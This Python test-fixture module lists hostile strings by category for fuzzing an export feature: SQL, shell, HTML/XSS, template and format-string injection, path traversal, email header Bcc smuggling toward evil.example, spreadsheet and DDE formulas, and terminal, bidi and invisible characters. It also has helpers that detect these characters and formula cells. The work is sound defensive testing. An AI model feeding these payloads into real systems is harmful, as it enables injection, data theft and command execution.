# ruff: noqa: RUF001
"""Hostile texts by kind: what an export may hold where a name, a number or an address should stand.

`KINDS` can stand in a UTF-8 file; `BROKEN` cannot, and meets only functions. Every text is ours, made for its kind.
"""

import unicodedata
from collections.abc import Iterator

ESC, BEL, NBSP = "\x1b", "\x07", "\u00a0"

KINDS: dict[str, tuple[str, ...]] = {
    "control": (
        *(f"Oak{chr(code)}Ltd" for code in (*range(1, 9), 11, 12, *range(14, 27), *range(28, 32), 127)),
        *(f"Oak{chr(code)}Ltd" for code in range(0x80, 0xA0)), "\x01\x02\x03", "Oak\b\b\bElm", "\x7f\x7f",
    ),
    "terminal": (
        f"{ESC}[2JOak", f"{ESC}[31mOak{ESC}[0m", f"{ESC}]0;owned{BEL}Oak",
        f"{ESC}]8;;http://evil.example{ESC}\\Oak", f"{ESC}]52;c;b3du{BEL}", f"Oak{ESC}[1A{ESC}[2KPaid",
        f"{ESC}P+q544e{ESC}\\", f"{ESC}c", f"{ESC}(0lqk{ESC}(B", "\x9b2JOak", "\x9d0;owned\x9c", "Oak\rPaid",
        f"{ESC}[?1049h", f"{ESC}_Gf=100{ESC}\\", f"Oak{ESC}",
    ),
    "markup": (
        "[red]Oak[/red]", "[/b] Ltd", "[link=http://evil.example]Oak[/link]", "[blink]", "[bold", "Oak [x]",
        "[[Oak]]", "[@click=app.bell]Oak[/]", ":skull: Oak", "\\[red]", "[not a tag]", "[on red] [/on red]",
        "`Oak` **Oak** _Oak_",
    ),
    "direction": (
        "Oak\u202egpj.exe", "\u202dOak\u202c", "\u2066Oak\u2069", "\u2067Oak\u2068", "\u200eOak\u200f", "\u061cOak",
        "שלום עולם", "مرحبا بالعالم", "Oak שלום Ltd", "\u202a\u202b\u202c\u202d\u202e", "1\u202e000,00",
    ),
    "invisible": (
        "O\u200bak", "O\u200cak", "O\u200dak", "\ufeffOak", "O\u00adak", "O\u2060ak", "O\u180eak", "\u200b\u200b",
        "O\u2061\u2062\u2063\u2064ak", "Oak\U000e0001\U000e0041", "\u3164", "\u115f\u1160", "Oak\ufff9\ufffa\ufffb",
        "\u034f", "Oak\u00a0Ltd", "Oak\u2003Ltd", "Oak\u202fLtd", "Oak\u3000Ltd", "\ufe0fOak", "Oak\ue000",
        "Oak\U0010ffff",
    ),
    "lines": (
        "Oak\u2028Bcc: evil@evil.example", "Oak\u2029Ltd", "Oak\x85Ltd", "Oak\x0bLtd", "Oak\x0cLtd", "Oak\nLtd",
        "Oak\r\nLtd", "Oak\tLtd", "\n\nOak\n\n", "Oak\n.\nLtd", "Oak\r\n.\r\nMAIL FROM:<evil@evil.example>", ".",
        "..Oak", "From Oak", "\nFrom evil@evil.example Mon", "Oak\x1c\x1d\x1eLtd",
    ),
    "letters": (
        "Z̴̛a̷l̶g̸o̵ ̶i̷s̸ ̴h̶e̵r̷e", "é", "e\u0301", "İstanbul", "ıOak", "ſtraße", "ﬁnch ﬂock", "Ωmega Ώ", "Ǆ ǅ ǆ",
        "田中さん", "社會科學院語學研究所", "パーティーへ行かないか", "ﾊﾟｰﾃｨ", "𝕺𝖆𝖐", "Ｏａｋ", "Ооак", "გამარჯობა",
        "ก็็็็็็็็็็็็็็", "𠜎𠜱𠝹", "ÅÅ", "K K", "ß SS", "Ŀ", "⁰⁴⁵ ₀₁₂", "Ⅻ ½ ②", "٣٤٥", "१२३", "𝟏𝟐𝟑",
    ),
    "emoji": (
        "😍 Oak", "👩🏽‍🚀", "👨‍👩‍👧‍👦 Ltd", "🇬🇧🇩🇪", "🇬", "1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️🧡💛", "☺☻", "ಠ_ಠ",
        "(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯",
    ),
    "sql": (
        "1'; DROP TABLE invoices--", "' OR '1'='1", '" OR ""="', "Robert'); DROP TABLE customers;--", "1;SELECT 1",
        "'", "''", '"', '""', "`", "') UNION SELECT * FROM customers--", "/* */", "--",
        "x'; COPY customers TO 'owned.csv'; --", "x'),read_csv('/etc/passwd", "$1", "?", ":name", "%(name)s",
        "\\'; --", "ATTACH 'owned.db'", "{0}", "$$Oak$$",
    ),
    "shell": (
        "$(touch owned)", "`touch owned`", "; touch owned", "| touch owned", "&& touch owned", "$HOME", "${HOME}",
        "%PATH%", "../../../owned", "-rf", "--help", "-", "~root", "*", "?", "> owned", "< /etc/passwd", "!!", "\\",
        "$IFS", "#Oak", "eval('owned')", "__import__('os').system('touch owned')", "() { :;}; touch owned",
    ),
    "html": (
        "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "<b>Oak</b>",
        "</p>", "</table></body></html>", "<!-- Oak", "-->", "<![CDATA[Oak]]>", "<svg/onload=alert(1)>",
        "javascript:alert(1)", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
        "</title><script>alert(1)</script>", "</style>", "</script><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)>", "&lt;script&gt;", "&#60;script&#62;", "&amp;&copy;&nosuch;",
        "<a href='http://evil.example'>Oak</a>", "http://evil.example/", "data:text/html,<b>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<x y=z", "<<b>", "< script >",
        "<!--<script>", "<math><mi//xlink:href='x'>", "<style>*{display:none}</style>",
        "\u003cscript\u003e", "Oak & Sons", "url(javascript:alert(1))", "expression(alert(1))",
        "\\u003cscript\\u003e", "</textarea>", "</noscript><b>", "<br>",
    ),
    "template": (
        "{{ 7*7 }}", "{{7*7}}", "{% raw %}", "{% include '/etc/passwd' %}", "{# #}", "{{ ''.__class__ }}", "${7*7}",
        "#{7*7}", "<%= 7*7 %>", "{{{7*7}}}", "[[${7*7}]]", "{7*7}", "{{=7*7}}", "{!7*7!}", "@(7*7)", "*{7*7}",
        "~{7*7}", "{php}", "%}", "{{", "}}", "{%", "{% endif %}", "{{ customer.name }}", "\x02", "\x01",
        "{{ invoice_table }}", "{invoice_id}",
    ),
    "format": (
        "%s", "%d", "%n", "%x%x%x%x", "%1000000000d", "%(name)s", "{}", "{0}", "{0.__class__}", "{:>1000000000}",
        "%", "%%", "%c%c%c", "$name", "{customer}", "%00", "%0d%0aBcc: evil@evil.example", "\\0", "\\n", "\\x1b[2J",
        "\\u202e",
    ),
    "files": (
        "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con.txt", "CONIN$", "..", "../..", "../../etc/passwd",
        "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\System32", "\\\\evil\\share", "file:///etc/passwd",
        "a/b", "a\\b", "a:b", "Oak.", "Oak ", " Oak", ".Oak", "Oak.eml", "Oak.html.exe", "~", "Oak|Elm", "Oak?*",
        "....//....//", "%2e%2e%2fetc", "..%c0%afetc", "Oak::$DATA", "desktop.ini", ".git/config",
        ".remindr/journal.db", "OAK", "oak",
    ),
    "headers": (
        "Oak\r\nBcc: evil@evil.example", "Oak\nBcc: evil@evil.example", "Oak\rBcc: evil@evil.example",
        "Oak\r\n\r\n<b>Oak</b>", "ACME =?UTF-8?Q?=0A?=Bcc: evil@evil.example",
        "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=", "=?utf-8?q?Oak=0D=0ABcc:_evil@evil.example?=",
        "=?utf-8?q?x?= =?utf-8?q?=0ABcc:y?=", "=?", "?=", "=?=?utf-8?q?=0A?=?=", "= ?UTF-8?Q?=0A?=",
        "=\n?UTF-8?Q?=0A?=", "=\u200b?UTF-8?Q?=0ABcc:x?=", "=?iso-8859-1?q?=0A?=",
        '"Evil, x@evil.example, Bob', 'Bob" <x@evil.example>, "Eve', "Bob <x@evil.example>",
        "x@evil.example, y@evil.example", "Group: a@b.example, c@d.example;", "Oak (comment) Ltd", "Oak \\",
        'Oak "The Tree" Sons', "Oak; Sons: Ltd", "<>", "@", "Oak%0ABcc:x", "Subject: Oak", "To: evil@evil.example",
        "Content-Type: text/html", "--=_boundary", "boundary=x",
    ),
    "formula": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", f"{NBSP}=1+1", "\u3000=1+1",
        "＝1+1", "＋1", "－1", "＠SUM(1)", " \t =1+1", '=HYPERLINK("http://evil.example";"Oak")',
        "=cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(1))", "-2+3", '"=1+1', "'=1+1", "|=1+1", "%=1", ";=1+1", ",=1+1",
        "\u200b=1+1", "\ufeff=1+1", "\u2003=1+1", "﹢1+1", "﹦1+1", "₌1+1", "=1+1\n=1+1", "--1", "+44 20 7946 0001",
        "\x1f=1+1", "\u22121", "\u00ad=1+1", "\u202e=1+1", "\x0b=1+1", "\x0c=1+1",
    ),
    "disguised": (
        "0", "-1", "1e309", "1E5", "0x10", "1_000", "NaN", "nan", "Infinity", "inf", "-0", "007", "1.0", "1,000.00",
        "2026-01-01", "01/02/2026", "1:30", "TRUE", "false", "yes", "no", "NO", "null", "NULL", "None", "undefined",
        "nil", "N/A", "#N/A", "#REF!", "#DIV/0!", "1/2", "9" * 40, "1 000", "1'000", "£1", "€ 5", "12%", "0o17",
        "true", "~", "-", "Total", "Grand total",
    ),
    "people": (
        "Dr. No", "Null", "Test", "O'Neil", "Mc\u2019Donald", "van 't Hoff", "X", "Jean-Luc", "N. N.",
        "Oak, Ash & Co.",
    ),
    "huge": (
        "a" * 5_000, "é" * 5_000, "W " * 2_500, "\u202e" * 5_000, "=" * 5_000, "<" * 5_000, "\u0301" * 2_000,
        "x" * 60_000,
    ),
}  # fmt: skip

BROKEN: tuple[str, ...] = (
    "Oak\x00Ltd", "\x00", "\ud800", "Oak\udfffLtd", "\ud83d", "\ude00\ud83d", "=\x00?utf-8?q?=0ABcc:x?=",
    "\x00=1+1", "\ud800=1+1",
)  # fmt: skip

EVERY: tuple[str, ...] = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))

ADDRESSES: tuple[str, ...] = (
    "evil@evil.example\r\nBcc: x@evil.example", "evil@evil.example\nBcc: x@evil.example", "a@b.example,c@d.example",
    "a@b.example; c@d.example", "Bob <a@b.example>", '"a@b.example, c"@d.example', "a@b.example>,<c@d.example",
    "<a@b.example", "a@b@c.example", "@b.example", "a@", "a@b", "a b@c.example", "a@b.example\x1b[2J",
    "a@[127.0.0.1]", "a@-b.example", "a@b..example", ".a@b.example", "a..b@c.example", "ä@b.example",
    "a@bücher.example", "a@b.example\u202e", "\ufeffa@b.example", "mailto:a@b.example",
    "mailto:a@b.example?bcc=x@evil.example", "a%0d%0aBcc:x@b.example", "'a@b.example", "=a@b.example",
    "-oQ/tmp@b.example", "--help@b.example", "a@b.example -X/tmp/x", "root", "|/bin/sh", "/etc/passwd@b.example",
    "a@b.example%", "a" * 65 + "@b.example", "a@" + "b" * 64 + ".example", "a@" + "b." * 140 + "example",
    "=?utf-8?q?a=0A?=@b.example", "<script>@b.example", "{{7*7}}@b.example", "$(id)@b.example", "`id`@b.example",
    "a'--@b.example", "a@b.example\u2028Bcc:x@d.example", "postmaster@",
)  # fmt: skip

_BAD = {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}


def commands_in(printed: str, allowed: str = "\n") -> Iterator[str]:
    """Every sign in what was printed that a terminal would obey, or that turns or hides what stands around it."""
    yield from (sign for sign in printed if sign not in allowed and unicodedata.category(sign) in _BAD)


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Whether a spreadsheet might calculate the cell: it begins so once blanks and invisible signs are gone."""
    seen = "".join(sign for sign in unicodedata.normalize("NFKC", cell) if unicodedata.category(sign) not in _BAD)
    return cell[:1] in "\t\r\n" or seen.strip()[:1] in ("=", "+", "-", "@") if cell else False
